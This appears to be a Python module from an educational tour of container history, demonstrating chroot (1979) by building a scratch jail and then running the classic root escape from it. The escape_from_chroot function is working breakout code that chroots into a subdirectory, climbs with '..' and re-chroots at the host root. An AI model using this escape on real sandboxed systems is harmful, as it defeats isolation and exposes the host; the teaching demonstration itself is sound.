"""Step 1, chroot (1979): a process jailed in a directory, and the classic
escape a root process makes from it."""

import os

from capsa.tour import rootfs
from capsa.tour.child import in_child, run_program
from capsa.tour.scratch import Scratch

TITLE, YEAR = "chroot", "1979"
SUMMARY = "a process jailed in a directory, and the classic escape from it"


def run(voice) -> dict:
    voice.explain("""
        In 1979 Unix Version 7 gained chroot(2): it changes what "/" means for
        a process and its children, so a whole system can be built and tested
        inside one directory. BSD took it in 1982. It was the first step
        towards containers, but it only changes how paths are looked up: a
        process that is root inside can walk back out.""")
    with Scratch(1) as scratch:
        jail = rootfs.build(scratch.path("jail"))
        host_root = _identity("/")
        scratch.announce(voice)
        voice.run('fork(); chroot("<scratch>/jail"); chdir("/"); exec ls /')
        inside = in_child(_look_inside, jail)
        voice.show_words(inside["ls"])
        voice.result(f"the jail's / is the scratch directory: {len(inside['ls'])} entries, "
                     f"and /etc/os-release {'is there' if inside['os_release'] else 'does not exist'}")
        voice.explain("""
            Now the escape, as root inside the jail: make a directory, chroot
            into it (the working directory stays outside the new root), climb
            with ".." as far as it goes, and chroot to where it ends.""")
        voice.run('mkdir("/x"); chroot("/x"); chdir("..") x 64; chroot(".")')
        escape = in_child(_escape, jail)
        escaped = tuple(escape["root"]) == host_root
        voice.show_words(escape["listing"])
        if escaped:
            voice.result(f"escaped: / is the host's root again ({escape['os_release'] or 'its /etc'})")
        else:
            voice.result("the escape did not reach the host's root")
        voice.explain("""
            chroot is a path trick, not a security boundary: an escaped root
            process could read or change anything on the host. The next step
            shows what closes this hole.""")
    return {"step": 1, "jail_listing": inside["ls"], "escape_succeeded": escaped,
            "escaped_listing": escape["listing"]}  # fmt: skip


def _identity(path: str) -> tuple[int, int]:
    st = os.stat(path)
    return st.st_dev, st.st_ino


def _look_inside(jail: str) -> dict:
    os.chroot(jail)
    os.chdir("/")
    status, text = run_program(["/bin/ls", "/"])
    if status != 0:
        raise OSError(f"ls in the jail exited {status}: {text.strip()}")
    return {"ls": text.split(), "os_release": os.path.exists("/etc/os-release")}


def escape_from_chroot() -> None:
    """The classic escape (run as root inside a chroot): chroot into a
    subdirectory so the working directory is outside the root, then ".."
    up to the real root and chroot there."""
    os.makedirs("/x", exist_ok=True)
    os.chroot("/x")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    os.chdir("/")


def _escape(jail: str) -> dict:
    os.chroot(jail)
    os.chdir("/")
    escape_from_chroot()
    return {"root": list(_identity("/")), "listing": sorted(os.listdir("/")), "os_release": _pretty_name()}


def _pretty_name() -> str:
    try:
        with open("/etc/os-release") as f:
            for line in f:
                if line.startswith("PRETTY_NAME="):
                    return line.partition("=")[2].strip().strip('"')
    except OSError:
        pass
    return ""
